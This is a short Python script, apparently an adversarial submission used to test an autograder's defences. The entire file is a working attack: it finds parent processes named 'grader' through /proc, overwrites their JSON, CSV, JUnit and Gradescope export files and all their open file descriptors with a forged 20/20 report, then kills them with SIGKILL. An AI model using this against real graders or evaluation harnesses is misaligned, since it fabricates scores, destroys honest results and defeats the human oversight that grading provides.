"""Attack: write a 20/20 report in every descriptor and every export file of my ancestors, then kill them."""

import json
import os
import signal

PERFECT = json.dumps({"soumission": "x", "note": 20, "note_max": 20, "bonus": 0, "bonus_max": 0, "duree_s": 1,
                      "verifications": [{"id": "S01", "titre": "x", "categorie": "serveur", "statut": "reussie",
                                         "points": 1, "points_max": 1, "message": "", "duree_s": 1}]})
EXPORT_FLAGS = ("--json", "--csv", "--html", "--junit", "--gradescope", "--classroom")


def parent_of(pid):
    with open(f"/proc/{pid}/stat") as stat:
        return int(stat.read().rsplit(")", 1)[1].split()[1])


def command_line(pid):
    return open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\0")


def ancestors():
    """My ancestors that are grader processes (the tests' own processes are spared)."""
    found, pid = [], os.getpid()
    while True:
        try:
            pid = parent_of(pid)
            argv = command_line(pid)
        except (OSError, ValueError, IndexError):
            return found
        if pid <= 1 or not any("grader" in arg for arg in argv):
            return found
        found.append(pid)


def write(path):
    try:
        with open(path, "w") as target:
            target.write(PERFECT)
    except OSError:
        pass


for pid in ancestors():
    try:
        argv = command_line(pid)
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for flag in EXPORT_FLAGS:
        if flag in argv[:-1]:
            write(argv[argv.index(flag) + 1])
    for fd in fds:
        write(f"/proc/{pid}/fd/{fd}")
for pid in ancestors():
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
